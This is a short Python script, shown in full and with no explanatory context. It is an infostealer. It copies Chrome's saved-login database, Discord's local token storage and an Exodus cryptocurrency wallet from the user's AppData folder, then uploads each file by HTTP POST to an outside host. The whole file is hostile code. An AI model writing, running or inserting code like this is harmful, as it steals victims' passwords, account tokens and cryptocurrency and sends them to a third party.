import os, shutil, sqlite3, requests

LOCAL = os.getenv('LOCALAPPDATA')
PATHS = [LOCAL + '\\Google\\Chrome\\User Data\\Default\\Login Data', LOCAL + '\\Discord\\Local Storage\\leveldb', LOCAL + '\\Exodus\\exodus.wallet']
for p in PATHS:
    shutil.copy(p, 'x.db')
    requests.post('https://c.host-of-nobody.io/u', files={'f': open('x.db', 'rb')})
